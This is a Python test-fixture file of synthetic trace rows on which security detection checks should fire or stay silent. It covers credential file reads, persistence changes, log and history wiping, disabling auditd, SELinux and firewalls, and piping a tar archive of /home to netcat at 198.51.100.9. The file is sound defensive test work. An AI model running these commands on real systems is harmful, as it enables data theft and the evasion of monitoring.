"""Rows of a trace, made by hand, on which checks must fire and on which they must stay silent, for
scripts/mutants.py. A case is a machine of its own. Those that are silent differ from one that fires in what
a single condition of the check looks at, so that an answer changes when the condition is taken away."""

import typing

# The tables that checks read, of each the columns that they read.
TABLES = {
    "file_accesses": "ts last_ts ok_ts host pid upid comm exe operation path path2 calls failures error",
    "processes": (
        "host upid pid parent_upid parent_pid comm exe argv start_ts end_ts exit_code signal uid "
        "container_id container_name unit"
    ),
    "execs": (
        "ts host pid upid comm exe path argv cwd uid euid "
        "parent_upid parent_pid parent_comm parent_exe parent_argv"
    ),
    "signals": "ts host upid pid comm event signal target_upid target_pid target_comm",
    "connections": (
        "ts host upid pid comm role protocol local_address local_port remote_address remote_port connection_id "
        "sent_bytes received_bytes sends duration_ns state opener_pid preexisting"
    ),
    "process_events": "ts host upid pid comm event new_comm child_upid exe uid euid old_uid old_euid cap_effective",
    "syscalls": "ts host upid pid comm syscall via arg0 arg1 ret error duration_ns",
    "threads": "host upid tid start_ts end_ts",
    "packets": (
        "ts host upid comm netns direction ethertype malformed protocol source_address destination_address source_port "
        "destination_port tcp_flags seq icmp_type payload_bytes arp_operation arp_sender_mac"
    ),
    "dns": "ts host upid pid comm name kind type rcode side message_bytes",
    "flows": "ts host upid pid comm sent_bytes received_bytes",
    "task_usage": "ts host upid cpu_ns",
    "segments": "host kind",
}
TIMESTAMPS = {"ts", "last_ts", "ok_ts", "start_ts", "end_ts"}
INTEGERS = {
    "child_upid", "tid", "exit_code", "local_port", "sent_bytes", "received_bytes", "sends", "duration_ns", "opener_pid",
    "old_uid", "old_euid", "cap_effective", "arg0", "arg1", "ret", "netns", "source_port", "destination_port", "seq",
    "icmp_type", "payload_bytes", "message_bytes", "cpu_ns",
    "pid", "upid", "parent_pid", "parent_upid", "target_pid", "target_upid", "uid", "euid",
    "calls", "failures", "remote_port", "connection_id",
}


def kind(column):
    """The type of a column."""
    kinds = {"timestamp": TIMESTAMPS, "integer": INTEGERS, "boolean": {"preexisting"}}
    return next((kind for kind, columns in kinds.items() if column in columns), "text")


# The types of columns, by table.
COLUMNS = {table: {column: kind(column) for column in names.split()} for table, names in TABLES.items()}

# Processes: the shell that is on each machine, and the one that a case is about.
SHELL, PROGRAM = 1, 10

BASH = "/usr/bin/bash"
CAT = "/usr/bin/cat"
DASH = "/usr/bin/dash"
PERL = "/usr/bin/perl"
PYTHON = "/usr/bin/python3.11"
RM = "/usr/bin/rm"
SYSTEMCTL = "/usr/bin/systemctl"
SYSTEMD = "/usr/lib/systemd/systemd"
CLOUD_INIT = "/usr/bin/python3 /usr/bin/cloud-init init"


def base_name(exe):
    """The name of a process that runs a program, which the kernel cuts."""
    return exe.rsplit("/", 1)[-1][:15]


class Machine:
    """What happened on one machine: rows by table, to which its name is added later. A `pid` is the same as
    the `upid`; moments are seconds."""

    def __init__(self):
        self.rows = {table: [] for table in COLUMNS}
        self.programs = {}
        self.process(SHELL, BASH, "bash", None)

    def add(self, table, upid, /, **values):
        """Adds a row of a process, or of the one in `values`; columns that are not given are NULL."""
        name = base_name(self.programs[upid] or "kthreadd")
        given = {"ts": 0, "upid": upid, "pid": upid, "comm": name, **values}
        self.rows[table].append({column: given.get(column) for column in COLUMNS[table]})
        return self

    def process(self, upid, exe, argv, parent=SHELL, **values):
        """A process that is there, without the exec that made it what it is."""
        self.programs[upid] = exe
        return self.add(
            "processes", upid,
            **{"exe": exe, "argv": argv, "parent_upid": parent, "parent_pid": parent, "start_ts": 0, **values},
        )

    def execute(self, exe, argv, upid=PROGRAM, path=None, cwd="/srv", parent=SHELL, parent_exe=BASH, at=0):
        """A process that executes a program, as the path if that is another, such as a script."""
        if upid not in self.programs:
            self.process(upid, exe, argv, parent)
        return self.add(
            "execs", upid, ts=at, exe=exe, path=path or exe, argv=argv, cwd=cwd, uid=0, euid=0,
            parent_upid=parent, parent_pid=parent, parent_comm=base_name(parent_exe), parent_exe=parent_exe,
            parent_argv=base_name(parent_exe),
        )

    def access(self, operation, path, path2=None, upid=PROGRAM, fails=False, at=0):
        """A process uses a file."""
        return self.add(
            "file_accesses", upid, ts=at, last_ts=at, ok_ts=None if fails else at, exe=self.programs[upid], operation=operation, path=path,
            path2=path2, calls=1, failures=int(fails),
        )

    def signal(self, signal, target, target_comm, upid=PROGRAM, event="sent"):
        """A process signals another."""
        return self.add(
            "signals", upid, event=event, signal=signal, target_upid=target, target_pid=target,
            target_comm=target_comm,
        )

    def connect(self, address, port):
        """The process connects to there."""
        return self.add(
            "connections", PROGRAM, remote_address=address, remote_port=port, connection_id=PROGRAM
        )

    def take_name(self, name, event="rename"):
        """The process gives itself another name."""
        return self.add("process_events", PROGRAM, event=event, new_comm=name)


class Case(typing.NamedTuple):
    """Machines on which a check fires, and on which it is silent, with these parameters."""

    fires: list
    silent: list
    parameters: dict


CASES = {}


def check(name, fires, silent, parameters=None):
    """Says what is expected of a check."""
    CASES[name] = Case(fires, silent, parameters or {})


def program(exe=PYTHON, argv=None):
    """A machine on which the shell has started a program."""
    return Machine().process(PROGRAM, exe, argv or f"{base_name(exe)} /srv/x.py")


def executed(exe, argv, **options):
    """A machine on which the shell has executed a program."""
    return Machine().execute(exe, argv, **options)


def packaged(exe=PERL, argv="/usr/bin/perl /usr/bin/deb-systemd-helper enable a"):
    """A machine on which a script of a Debian package has started a program."""
    machine = Machine().process(3, "/usr/bin/dpkg", "/usr/bin/dpkg --configure -a")
    machine.process(4, DASH, "/bin/sh /var/lib/dpkg/info/a.postinst configure", 3)
    return machine.process(PROGRAM, exe, argv, 4)


def packaged_by_dnf():
    """A machine on which dnf, which is written in Python, has started a program."""
    machine = Machine().process(3, "/usr/bin/python3.9", "/usr/bin/python3 -s /usr/bin/dnf install a")
    return machine.process(PROGRAM, SYSTEMCTL, "systemctl x", 3)


def far_below(exe=PYTHON, argv="python3 x", top_exe="/usr/bin/dpkg", top_argv="/usr/bin/dpkg -i a"):
    """A machine on which a program descends from dpkg, or another, but by too many shells to count."""
    machine = Machine().process(30, top_exe, top_argv)
    for shell in range(31, 45):
        machine.process(shell, DASH, "/bin/sh x", shell - 1)
    return machine.process(PROGRAM, exe, argv, 44)


def accesses(operation, paths, exe=PYTHON, **options):
    """Machines, one for each of these files, on which a program uses it."""
    return [program(exe).access(operation, path, **options) for path in paths]


def by_each(exes, operation, path):
    """Machines, one for each of these programs, on which it uses a file."""
    return [program(exe).access(operation, path) for exe in exes]


def check_changes(name, files, others=(), owners=(), spares_packages=True, fires=(), silent=()):
    """A check of who changes files: these, not others, and not by the programs that are there for it."""
    fires = [*accesses("write", files), program().access("rename", "/etc/.new", files[0]), *fires]
    silent = [
        program().access("read", files[0]),
        program().access("unlink", files[0]),
        program().access("write", files[0], fails=True),
        program().access("rename", files[0], "/srv/old"),
        *accesses("write", others),
        *by_each(owners, "write", files[0]),
        *silent,
    ]
    if spares_packages:
        silent += [packaged().access("write", files[0]), packaged_by_dnf().access("write", files[0])]
        fires += [far_below().access("write", files[0])]
    check(name, fires, silent)


check_changes(
    "cron_change",
    files=[
        "/etc/cron.d/job", "/mnt/etc/cron.d/j", "/var/spool/cron/crontabs/root", "/var/spool/cron/root", "/etc/crontab",
        "/proc/1/root/etc/cron.daily/x",
    ],
    others=["/etc/crond/job", "/srv/etc/cron.d/x", "/etc/crontab.bak"],
    owners=["/usr/sbin/cron", "/usr/sbin/atd"],
)
check_changes(
    "systemd_unit_change",
    files=[
        "/etc/systemd/system/x.service",
        "/home/u/.config/systemd/user/x.timer",
        "/lib/systemd/system/y.service",
    ],
    others=["/etc/systemd/system.conf"],
    owners=[SYSTEMD],
    fires=[program(SYSTEMCTL).access("symlink", "/tmp/x.service", "/etc/systemd/system/x.service")],
    silent=[
        program(SYSTEMD).access(
            "symlink",
            "/lib/systemd/system/a.service",
            "/etc/systemd/system/multi-user.target.wants/a.service",
        ),
    ],
)
check_changes(
    "shell_profile_change",
    files=["/etc/profile.d/x.sh", "/root/.bashrc", ".bashrc", "/home/u/.config/fish/config.fish"],
    others=["/home/u/project/src/.bashrc", "/etc/profiles/a"],
    owners=["/usr/sbin/useradd"],
    silent=[program(PERL, "/usr/bin/perl /usr/sbin/adduser u").access("write", "/home/u/.bashrc")],
)
check_changes(
    "authorized_keys_change",
    files=["/root/.ssh/authorized_keys", "/etc/ssh/authorized_keys/u"],
    others=["/root/.ssh/known_hosts"],
    owners=["/usr/bin/google_guest_agent"],
    spares_packages=False,
    fires=[
        packaged().access("write", "/root/.ssh/authorized_keys"),
        far_below(top_exe=PYTHON, top_argv=CLOUD_INIT).access("write", "/root/.ssh/authorized_keys"),
    ],
    silent=[program(PYTHON, CLOUD_INIT).access("write", "/root/.ssh/authorized_keys")],
)
check_changes(
    "preload_file_change",
    files=["/etc/ld.so.preload"],
    others=["/etc/ld.so.cache"],
    spares_packages=False,
    fires=[packaged().access("write", "/etc/ld.so.preload")],
)
check_changes(
    "account_change",
    files=["/etc/passwd", "/etc/shadow"],
    others=["/etc/passwd-", "/srv/etc/passwd"],
    owners=["/usr/sbin/useradd", "/usr/bin/passwd"],
    spares_packages=False,
)
check_changes(
    "pam_change",
    files=["/etc/pam.d/sshd", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so"],
    others=["/etc/pamd/sshd"],
    owners=["/usr/bin/authselect"],
)
check_changes(
    "ssh_config_change",
    files=["/etc/ssh/sshd_config", "/home/u/.ssh/rc"],
    others=["/etc/ssh/ssh_config"],
    owners=["/usr/bin/google_guest_agent"],
)
check_changes(
    "startup_script_change",
    files=[
        "/etc/rc.local", "/etc/udev/rules.d/9.rules", "/home/u/.config/autostart/x.desktop", "/etc/init.d/x",
    ],
    others=["/etc/rc.conf"],
    owners=[SYSTEMD],
)

check(
    "password_file_read",
    fires=[
        program(CAT).access("read", "/etc/shadow"),
        program().access("symlink", "/etc/shadow", "/tmp/s"),
        far_below().access("read", "/etc/shadow"),
    ],
    silent=[
        program().access("stat", "/etc/shadow"),
        program().access("read", "/etc/shadow", fails=True),
        program().access("read", "/etc/passwd"),
        program().access("read", "/srv/shadow"),
        program("/usr/sbin/unix_chkpwd").access("read", "/etc/shadow"),
        packaged().access("read", "/etc/shadow"),
        Machine()
        .process(3, DASH, "/bin/sh /etc/cron.daily/passwd")
        .process(PROGRAM, "/usr/bin/cmp", "cmp a b", 3)
        .access("read", "/etc/shadow"),
        program(PERL, "/usr/bin/perl -w /usr/sbin/dpkg-preconfigure --apt").access("read", "/etc/shadow"),
    ],
)


def check_reads(name, files, others, owners, fires=(), silent=(), parameters=None):
    """A check of who reads files: these, not others, and not by the programs whose they are."""
    check(
        name,
        fires=[*accesses("read", files, exe=CAT), *fires],
        silent=[
            program(CAT).access("stat", files[0]),
            program(CAT).access("read", files[0], fails=True),
            *accesses("read", others, exe=CAT),
            *by_each(owners, "read", files[0]),
            *silent,
        ],
        parameters=parameters,
    )


def reads_all(files):
    """A machine on which a program reads all of these."""
    machine = program()
    for path in files:
        machine.access("read", path)
    return machine


CLOUD_FILES = ["/home/u/.aws/credentials", "/home/u/.kube/config", "/home/u/.docker/config.json"]

check_reads(
    "ssh_key_read",
    files=["/home/u/.ssh/id_ed25519", "id_rsa", "/etc/ssh/ssh_host_rsa_key"],
    others=["/home/u/.ssh/id_ed25519.pub", "/home/u/.ssh/known_hosts"],
    owners=["/usr/bin/ssh"],
)
check_reads(
    "browser_store_read",
    files=["/home/u/.config/google-chrome/Default/Login Data", "/home/u/.mozilla/firefox/a.default/key4.db"],
    others=["/home/u/.config/google-chrome/Default/History"],
    owners=["/opt/google/chrome/chrome"],
)
check_reads(
    "cloud_credentials_read",
    files=CLOUD_FILES,
    others=["/home/u/.aws/config"],
    owners=["/usr/bin/kubectl"],
    fires=[reads_all(CLOUD_FILES)],
    silent=[reads_all(CLOUD_FILES[:2])],
    parameters={"files": 3},
)
check(
    "cloud_metadata_access",
    fires=[program("/usr/bin/curl").connect("169.254.169.254", 80)],
    silent=[
        program("/usr/bin/curl").connect("169.254.1.1", 80),
        program("/usr/bin/curl").connect("169.254.169.254", 53),
        program("/usr/bin/amazon-ssm-agent").connect("169.254.169.254", 80),
        program(PYTHON, CLOUD_INIT).connect("169.254.169.254", 80),
    ],
)


def looks_at(targets, file, operation="read", exe=CAT, interval=0.1, by_children=False):
    """A machine on which a program, or each time another child of a shell, looks at other processes."""
    machine = Machine()
    for number, target in enumerate(targets):
        upid = PROGRAM + number if by_children else PROGRAM
        if upid not in machine.programs:
            machine.process(upid, exe, exe)
        machine.access(operation, f"/proc/{target}/{file}", upid=upid, at=number * interval)
    return machine


def check_looks(name, count, file, other_file, owner):
    """A check of who looks at that many processes in a minute."""
    targets = range(100, 100 + count)
    check(
        name,
        fires=[looks_at(targets, file), looks_at(targets, file, by_children=True)],
        silent=[
            looks_at(targets, file, operation="stat"),
            looks_at(targets, other_file),
            # One of them is the program itself.
            looks_at([PROGRAM, *targets[1:]], file),
            looks_at(targets, file, exe=owner),
            looks_at(targets[1:], file),
            looks_at(targets, file, interval=61),
        ],
        parameters={"processes": count},
    )


check_looks("environ_read", 3, "environ", other_file="comm", owner="/usr/bin/ps")
check_looks("proc_scan", 20, "cmdline", other_file="oom_score_adj", owner="/usr/bin/ps")


def reads_memory(
    files=("maps", "mem"), folder="/proc/812", exe=PYTHON, of_child=False, operation="read", fails=False
):
    """A machine on which a program reads the memory of sshd, process 812."""
    machine = program(exe).process(812, "/usr/sbin/sshd", "sshd", PROGRAM if of_child else SHELL)
    for file in files:
        machine.access(operation, f"{folder}/{file}", fails=fails)
    return machine


check(
    "memory_dump",
    fires=[reads_memory()],
    silent=[
        reads_memory(operation="stat"),
        reads_memory(fails=True),
        reads_memory(files=["status", "maps"]),
        reads_memory(files=["maps", "smaps"]),
        reads_memory(files=["mem"]),
        reads_memory(files=["xmem", "xmaps"]),
        reads_memory(folder=f"/proc/{PROGRAM}"),
        reads_memory(folder="/srv/812"),
        reads_memory(exe="/usr/sbin/criu"),
        reads_memory(of_child=True),
    ],
)

check(
    "log_tampering",
    fires=[
        program(RM).access("unlink", "/var/log/auth.log"),
        program().access("write", "/var/log/wtmp"),
        program().access("symlink", "/dev/null", "/var/log/syslog"),
        program().access("rename", "/srv/clean", "/var/log/auth.log"),
        far_below().access("unlink", "/var/log/auth.log"),
    ],
    silent=[
        program().access("read", "/var/log/auth.log"),
        program().access("stat", "/srv/x", "/var/log/auth.log"),
        program(RM).access("unlink", "/var/log/auth.log", fails=True),
        program().access("unlink", "/var/log/app/app.log"),
        program("/usr/sbin/rsyslogd").access("write", "/var/log/auth.log"),
        Machine()
        .process(3, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf")
        .process(PROGRAM, "/usr/bin/gzip", "gzip", 3)
        .access("unlink", "/var/log/auth.log.1"),
        packaged().access("write", "/var/log/btmp"),
    ],
)

TOUCH = "/usr/bin/touch"
check(
    "timestomp",
    fires=[
        executed(TOUCH, "touch -d '2020-01-01 12:00' /etc/hostname"),
        executed(TOUCH, "touch -r /usr/bin/ls /usr/bin/x"),
        program().access("utime", "/etc/cron.d/x"),
        far_below().access("utime", "/etc/x"),
    ],
    silent=[
        executed(TOUCH, "touch /etc/hostname"),
        executed(TOUCH, "touch -d 2020-01-01 /srv/x"),
        executed(TOUCH, "touch -r /etc/passwd /srv/x"),
        program().access("chmod", "/etc/cron.d/x"),
        program().access("utime", "/etc/cron.d/x", fails=True),
        program().access("utime", "/srv/x"),
        program("/usr/bin/rsync").access("utime", "/etc/x"),
        packaged().access("utime", "/etc/x"),
    ],
)

HISTORY = "/root/.bash_history"
check(
    "history_clearing",
    fires=[
        program(RM).access("unlink", HISTORY),
        program().access("symlink", "/dev/null", HISTORY),
        program().access("write", HISTORY),
        program(BASH).access("unlink", HISTORY),
    ],
    silent=[
        program().access("read", HISTORY),
        program().access("stat", "/a", HISTORY),
        program(RM).access("unlink", HISTORY, fails=True),
        program(RM).access("unlink", "/root/.bash_logout"),
        # What a shell does with its own.
        program(BASH).access("write", HISTORY),
        program(BASH).access("rename", f"{HISTORY}-1.tmp", HISTORY),
    ],
)

check(
    "masquerading_name",
    fires=[
        executed("/usr/bin/sleep", "'[kworker/0:1]' 9"),
        executed("/srv/kdevtmpfsi", "x"),
        program("/srv/x").take_name("kworker/u4:2"),
        executed("/tmp/sshd", "x"),
        executed("/srv/ls ", "ls"),
    ],
    silent=[
        # A thread of the kernel.
        Machine().process(PROGRAM, None, None, None).take_name("kworker/0:2"),
        executed("/usr/bin/sleep", "kwriter 9"),
        executed("/usr/bin/[", "'[' -f x ']'"),
        executed("/usr/sbin/sshd", "/usr/sbin/sshd -D"),
        executed("/tmp/build/tool", "tool"),
        executed("/srv/my tool", "'my tool'"),
        program("/srv/x").take_name("kworker/u4:2", event="exit"),
    ],
)

check(
    "hidden_program",
    fires=[
        executed("/tmp/.x/run", "run"),
        executed(DASH, "/bin/sh /dev/shm/.y", path="/dev/shm/.y"),
        executed(BASH, "bash /tmp/.x/a.sh", path="/bin/bash"),
        executed("/usr/share/... /x", "x"),
        executed(".../d/d/run", "./run", path="./run", cwd=".../d/d"),
        executed(BASH, "bash .a.sh", path="/bin/bash", cwd="/tmp"),
        program().access("mkdir", "/tmp/..."),
    ],
    silent=[
        executed("/tmp/x/run", "run"),
        executed("/home/u/.local/bin/x", "x"),
        executed(DASH, "sh -c 'cd /tmp/.x '", path="/bin/sh", cwd="/tmp"),
        executed(CAT, "cat /tmp/.x/a"),
        program().access("stat", "/tmp/..."),
        program().access("mkdir", "/tmp/...", fails=True),
        program().access("mkdir", "/tmp/.X11-unix"),
    ],
)

DROPPED, SCRIPT, CHILD = "/srv/drop", "/srv/s.sh", 11
check(
    "self_deletion",
    fires=[
        executed(DROPPED, "drop").access("unlink", DROPPED, at=1),
        executed(BASH, f"bash {SCRIPT}")
        .process(CHILD, RM, "rm", PROGRAM)
        .access("unlink", SCRIPT, upid=CHILD, at=1),
    ],
    silent=[
        executed(DROPPED, "drop").access("chmod", DROPPED, at=1),
        executed(DROPPED, "drop").access("unlink", DROPPED, fails=True, at=1),
        executed(DROPPED, "drop", at=2).access("unlink", DROPPED, at=1),
        executed(DROPPED, "drop").access("unlink", "/srv/other", at=1),
        # Not by it, but by another child of the shell.
        executed(DROPPED, "drop").process(CHILD, RM, "rm").access("unlink", DROPPED, upid=CHILD, at=1),
        # It is in a text of commands, or an argument of what is no interpreter.
        executed(BASH, f"bash -c '{SCRIPT}'", path="/bin/bash").access("unlink", SCRIPT, at=1),
        executed(CAT, f"cat {SCRIPT}").access("unlink", SCRIPT, at=1),
    ],
)

AUDITD, KILL, DAEMON = "/usr/sbin/auditd", "/usr/bin/kill", 900


def kills(
    exe=AUDITD, name="auditd", signal="SIGKILL", event="sent", killer=KILL, sender=PROGRAM, parent=SHELL
):
    """A machine on which a daemon is signalled."""
    machine = program(killer).process(DAEMON, exe, exe, parent)
    return machine.signal(signal, DAEMON, name, upid=sender, event=event)


check(
    "security_tool_killed",
    fires=[
        kills(),
        kills(exe=PYTHON, name="fail2ban-server"),
        far_below(KILL, "kill").process(DAEMON, AUDITD, AUDITD).signal("SIGTERM", DAEMON, "auditd"),
    ],
    silent=[
        kills(event="received"),
        kills(signal="SIGHUP"),
        kills(exe="/usr/sbin/nginx", name="nginx"),
        kills(sender=DAEMON),
        kills(parent=PROGRAM),
        kills(killer=SYSTEMD),
        packaged(KILL, "kill").process(DAEMON, AUDITD, AUDITD).signal("SIGTERM", DAEMON, "auditd"),
    ],
)

check(
    "security_tool_tampering",
    fires=[
        executed(SYSTEMCTL, "systemctl stop auditd"),
        executed(SYSTEMCTL, "systemctl disable --now falco.service"),
        executed("/usr/sbin/auditctl", "auditctl -D"),
        far_below(SYSTEMCTL, "systemctl stop auditd").execute(SYSTEMCTL, "systemctl stop auditd", parent=44),
    ],
    silent=[
        executed(SYSTEMCTL, "systemctl restart auditd"),
        executed(SYSTEMCTL, "systemctl stop nginx"),
        packaged(SYSTEMCTL, "systemctl stop rsyslog").execute(SYSTEMCTL, "systemctl stop rsyslog", parent=4),
    ],
)

ENFORCE = "/sys/fs/selinux/enforce"
check(
    "access_control_off",
    fires=[
        executed("/usr/sbin/setenforce", "setenforce 0"),
        executed(PYTHON, "/usr/bin/python3 /usr/sbin/aa-disable x"),
        program().access("write", ENFORCE),
        far_below().access("write", ENFORCE),
    ],
    silent=[
        executed("/usr/sbin/setenforce", "setenforce 1"),
        program().access("read", ENFORCE),
        program().access("write", ENFORCE, fails=True),
        program().access("write", "/sys/fs/selinux/avc/cache_threshold"),
        program(SYSTEMD).access("write", ENFORCE),
        packaged().access("write", ENFORCE),
    ],
)

IPTABLES, NFT = "/usr/sbin/xtables-nft-multi", "/usr/sbin/nft"
check(
    "firewall_tampering",
    fires=[
        executed(IPTABLES, "iptables -F"),
        executed(IPTABLES, "iptables -t nat -F"),
        executed(IPTABLES, "iptables -P INPUT ACCEPT"),
        executed(NFT, "nft flush ruleset"),
        executed(PYTHON, "/usr/bin/python3 /usr/sbin/ufw disable"),
        executed(SYSTEMCTL, "systemctl stop firewalld"),
    ],
    silent=[
        executed(IPTABLES, "iptables -F DOCKER"),
        executed(IPTABLES, "iptables -A INPUT -j DROP"),
        executed(NFT, "nft flush ruleset", parent_exe=SYSTEMD),
    ],
)

CHATTR = "/usr/bin/chattr"
check(
    "file_attribute_hiding",
    fires=[
        executed(CHATTR, "chattr +i /etc/x"),
        executed(CHATTR, "chattr '=ia' /etc/x"),
        program().access("file_setattr", "/etc/x"),
    ],
    silent=[
        executed(CHATTR, "chattr +C /srv/x"),
        executed(CHATTR, "chattr -R +d /srv"),
        program().access("file_getattr", "/etc/x"),
        program().access("file_setattr", "/etc/x", fails=True),
        program("/usr/sbin/xfs_io").access("file_setattr", "/etc/x"),
    ],
)

DISCOVERY = ["whoami", "id", "uname", "ps", "ip", "ss"]
OTHER_SHELL = 2


def runs_tools(tools, interval=1, starters=(SHELL, SHELL), in_subshells=False):
    """A machine on which tools are started, in turns by two shells, or each second one in a subshell."""
    machine = Machine().process(OTHER_SHELL, DASH, "sh", None)
    for number, tool in enumerate(tools):
        parent = starters[number % 2]
        if in_subshells and number % 2:
            parent = 500 + number
            machine.process(parent, BASH, "bash")
        machine.execute(f"/usr/bin/{tool}", tool, upid=20 + number, parent=parent, at=number * interval)
    return machine


check(
    "discovery_burst",
    fires=[runs_tools(DISCOVERY), runs_tools(DISCOVERY, in_subshells=True)],
    silent=[
        runs_tools(DISCOVERY[:5]),
        runs_tools(["uname", "id"] * 6),
        runs_tools([*DISCOVERY[:5], "ls"]),
        runs_tools(DISCOVERY, interval=100),
        runs_tools(DISCOVERY, starters=(SHELL, OTHER_SHELL)),
    ],
    parameters={"tools": 6, "within": 60_000_000_000},
)

FIND = "/usr/bin/find"
check(
    "setuid_file_search",
    fires=[
        executed(FIND, "find / -perm -4000 -type f"),
        executed(FIND, "find / -perm /6000"),
        executed("/srv/f", "f / -perm '-u=s'"),
    ],
    silent=[
        executed(FIND, "find / -perm 755"),
        executed(FIND, "find / -perm 0755"),
        executed(DASH, "sh -c 'find / -perm -4000 2>/dev/null'"),
    ],
)

TAR, NETCAT = "/usr/bin/tar", "/usr/bin/nc.openbsd"


def pipes_archive(receiver, argv, at=0.01, parent=SHELL):
    """A machine on which an archive of homes goes to standard output, and another program is started."""
    return executed(TAR, "tar czf - /home").execute(receiver, argv, upid=PROGRAM + 1, parent=parent, at=at)


check(
    "archive_staging",
    fires=[
        executed(TAR, "tar czf /tmp/x.tgz /etc"),
        executed("/usr/bin/zip", "zip -r /tmp/x.zip /root"),
        pipes_archive(NETCAT, "nc 198.51.100.9 443"),
    ],
    silent=[
        executed(TAR, "tar tzf /tmp/x.tgz /etc"),
        executed(TAR, "tar czf /tmp/x.tgz src"),
        executed(TAR, "tar czf /srv/backup/x.tgz /etc"),
        pipes_archive(NETCAT, "nc 198.51.100.9 443", parent=OTHER_SHELL),
        pipes_archive(NETCAT, "nc 198.51.100.9 443", at=60),
        pipes_archive("/usr/bin/gzip", "gzip"),
    ],
)
